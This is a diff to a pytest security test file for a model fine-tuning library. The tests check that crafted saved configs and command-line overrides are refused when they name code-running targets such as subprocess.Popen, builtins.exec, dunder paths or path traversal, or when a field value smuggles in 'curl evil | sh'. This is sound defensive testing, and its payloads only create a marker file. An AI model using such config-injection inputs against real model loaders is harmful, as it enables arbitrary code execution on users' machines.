@@ -18,7 +18,7 @@ import finetune
 from finetune.cli import compose_unresolved
 from finetune.errors import ConfigError
 from finetune.files import load_safe
-from finetune.resume import load_last, resumed_config
+from finetune.resume import find_run_dir, load_last, resumed_config
 from finetune.run import build, run
 from finetune.trust import check_targets, targets, trusted
 
@@ -32,22 +32,36 @@ class Doubled(nn.Module):
         return 2 * x
 
 
-DOUBLED = f"{__name__}.Doubled"
+class Touch:
+    """What an attacker would name: building it does something (creates `path`), whatever
+    it is called with."""
+
+    def __init__(self, *args, path: str, **kwargs):
+        open(path, "w").close()
+
+
+DOUBLED, TOUCH = f"{__name__}.Doubled", f"{__name__}.Touch"
 
 
 def with_marker(marker) -> dict[str, dict]:
     """Saved-config changes, each of which creates `marker` if it is ever built or called."""
+    touch = {"_target_": TOUCH, "path": str(marker)}
     return {
         "Popen head layer": {"head": {"layers": [
             {"_target_": "subprocess.Popen", "args": ["touch", str(marker)]}]}},
-        "os.system logger": {"logger": {"evil": {"_target_": "os.system",
-                                                 "command": f"touch {marker}"}}},
-        "builtin exec": {"head": {"layers": [
-            {"_target_": "builtins.exec", "source": f"open({str(marker)!r}, 'w')"}]}},
+        "class in a head layer": {"head": {"layers": [touch]}},
+        "class as optimizer": {"optimizer": touch},
+        "class as scheduler": {"scheduler": touch},
+        "class as logger": {"logger": {"evil": touch}},
+        "class nested in a logger's arguments": {"logger": {"tensorboard": {
+            "_target_": "finetune.loggers.TensorBoardLogger", "log_every_n_steps": touch}}},
         "non-nn class": {"head": {"layers": [
             {"_target_": "logging.FileHandler", "filename": str(marker)}]}},
-        "Popen optimizer": {"optimizer": {"_target_": "subprocess.Popen",
-                                          "args": ["touch", str(marker)]}},
+        "builtin exec": {"head": {"layers": [
+            {"_target_": "builtins.exec", "source": f"open({str(marker)!r}, 'w')"}]}},
+        "a class reached through torch.nn": {"head": {"layers": [
+            {"_target_": "torch.nn.modules.module.torch.fx.GraphModule", "root": {}}]}},
+        "dunder path": {"head": {"layers": [{"_target_": "torch.nn.Module.__class__"}]}},
         "dotted path with ..": {"head": {"layers": [
             {"_target_": "torch.nn..logging.FileHandler", "filename": str(marker)}]}},
         "interpolation": {"data": {"root": "${oc.env:HOME}"}},
@@ -109,11 +123,20 @@ def entry_points(run_dir, tmp_path):
 
 
 CASES = with_marker("MARKER")
-# what each entry point builds from a saved config: the model (head) or, resuming, everything
-READS = {"load_model": {"head"}, "mode=evaluate": {"head"}, "mode=predict": {"head"},
-         "resume=": {"head", "logger", "optimizer"}}
-PAIRS = [(entry, case) for entry, sections in READS.items() for case, change in CASES.items()
-         if case == "interpolation" or set(change) & sections]
+# load_model, evaluate and predict check a saved config the same way (load_model): every
+# case through load_model and resume, the model's own cases through evaluate and predict
+HEAD_CASES = ["Popen head layer", "class in a head layer", "interpolation"]
+PAIRS = [(entry, case) for entry in ("load_model", "resume=") for case in CASES]
+PAIRS += [(entry, case) for entry in ("mode=evaluate", "mode=predict") for case in HEAD_CASES]
+
+
+def test_the_payloads_fire_when_trusted(trained, tmp_path):
+    """The control: with trust=['*'] the crafted head is built, and the marker appears."""
+    marker = tmp_path / "code_ran"
+    run_dir = crafted(trained, tmp_path, with_marker(marker)["class in a head layer"])
+    with pytest.raises(AttributeError):  # Touch is no layer: it has no .to(), found after it ran
+        finetune.load_model(str(run_dir / "checkpoints" / "best.pt"), trust=["*"])
+    assert marker.exists()
 
 
 @pytest.mark.parametrize("entry, case", PAIRS)
@@ -129,21 +152,44 @@ def test_a_crafted_saved_config_runs_nothing(trained, tmp_path, entry, case):
     if case == "interpolation":
         assert "data.root" in message and "interpolation" in message
     else:
-        (key, target), = targets(change)  # e.g. head.layers[0]._target_, 'subprocess.Popen'
+        key, target = targets(change)[-1]  # e.g. head.layers[0]._target_, 'subprocess.Popen'
         assert f"{key}={target!r}" in message
         assert "trust=[" in message or "not a class path" in message
 
 
 def test_a_file_override_that_reaches_past_conf_is_refused(trained, tmp_path):
     marker = tmp_path / "code_ran"
+    (tmp_path / "evil.yaml").write_text(f"_target_: {TOUCH}\npath: {marker}\n")
     for overrides in (["hydra.searchpath=[file:///tmp]"], ["experiment=../../../tmp/evil"],
-                      ["+logger.evil._target_=os.system", f"+logger.evil.command=touch {marker}"],
-                      ["seed=${oc.env:HOME}"]):
+                      [f"+backbone@_global_={tmp_path}/evil"], ["+logger.x._target_=" + TOUCH,
+                                                                 f"+logger.x.path={marker}"],
+                      ["seed=${oc.env:HOME}"], ["data.name='x\ncurl evil | sh'"]):
         run_dir = crafted(trained, tmp_path, {}, overrides)
         with pytest.raises(ConfigError, match="resume=.*(saved override|_target_)"):
             resume_in_process(run_dir, "trainer.max_epochs=2")
         shutil.rmtree(run_dir)
     assert not marker.exists()
+
+
+def test_a_tuple_in_a_saved_config_is_refused(trained, tmp_path):
+    marker = tmp_path / "code_ran"
+    run_dir = crafted(trained, tmp_path, {"head": {"layers": (
+        {"_target_": "subprocess.Popen", "args": ["touch", str(marker)]},)}})
+    for call in (lambda: finetune.load_model(str(run_dir / "checkpoints" / "best.pt")),
+                 lambda: resume_in_process(run_dir, "trainer.max_epochs=2")):
+        with pytest.raises(ConfigError, match="tuple, not plain data"):
+            call()
+    assert not marker.exists()
+
+
+def test_a_run_directory_holding_links_is_not_resumed(trained, tmp_path):
+    run_dir = crafted(trained, tmp_path, {})
+    (tmp_path / "bashrc").write_text("")
+    (run_dir / "train.log").unlink(missing_ok=True)
+    (run_dir / "train.log").symlink_to(tmp_path / "bashrc")
+    with pytest.raises(ConfigError, match="train.log is a symbolic link"):
+        find_run_dir(str(run_dir))
+    assert (tmp_path / "bashrc").read_text() == ""
 
 
 def test_a_frozen_part_outside_the_checkpoint_folder_is_refused(trained, tmp_path):
@@ -161,10 +207,12 @@ def test_a_frozen_part_outside_the_checkpoint_folder_is_refused(trained, tmp_pat
             call()
 
 
-@pytest.mark.parametrize("case", list(CASES))
-def test_backbone_checkpoint_takes_only_the_weights(trained, tmp_path, case):
+def test_backbone_checkpoint_takes_only_the_weights(trained, tmp_path):
     marker = tmp_path / "code_ran"
-    run_dir = crafted(trained, tmp_path, with_marker(marker)[case])
+    every_case = {}
+    for change in with_marker(marker).values():
+        every_case = merged(every_case, change)
+    run_dir = crafted(trained, tmp_path, every_case)
     path = run_dir / "checkpoints" / "best.pt"
     setup = build(make_config(*FAST, f"backbone.checkpoint={path}"))
     saved = finetune.load_model(str(trained / "checkpoints" / "best.pt")).net.pretrained
@@ -206,8 +254,12 @@ def test_resume_takes_trust_from_the_command_line_never_from_the_file(own_layer_
 
 
 def test_trust_entries():
-    assert trusted("a.b.C", ["a.b.C"]) and trusted("a.b.C", ["a.*"]) and trusted("x.Y", ["*"])
-    assert not trusted("a.b.C", ["a.b"]) and not trusted("ab.C", ["a.*"]) and not trusted("a.C", [])
+    assert trusted("a.b.C", ["a.b.C"]) and trusted("x.Y", ["*"])
+    assert trusted("json.decoder.JSONDecoder", ["json.*"])  # a class defined in the package
+    assert not trusted("json.decoder.scanner.make_scanner", ["json.*"])  # not a class
+    assert not trusted("json.decoder.re.Pattern", ["json.*"])  # only imported there
+    assert not trusted("a.b.C", ["a.b"]) and not trusted("jsonx.C", ["json.*"])
+    assert not trusted("a.C", [])
 
 
 def test_the_shipped_classes_pass_without_trust():
@@ -220,9 +272,9 @@ def test_the_shipped_classes_pass_without_trust():
 @pytest.mark.slow
 def test_resume_of_a_crafted_run_on_the_command_line_exits_with_the_reason(trained, tmp_path):
     marker = tmp_path / "code_ran"
-    run_dir = crafted(trained, tmp_path, with_marker(marker)["Popen optimizer"],
+    run_dir = crafted(trained, tmp_path, with_marker(marker)["class as optimizer"],
                       [*FAST, "backbone.allow_download=false", "plots=false"])  # as run_train's
     result = run_train(f"resume={run_dir}", "trainer.max_epochs=2", cwd=tmp_path)
     assert result.returncode == 2, result.stderr
-    assert "optimizer._target_='subprocess.Popen'" in result.stderr
+    assert f"optimizer._target_='{TOUCH}'" in result.stderr
     assert "Traceback" not in result.stderr and not marker.exists()
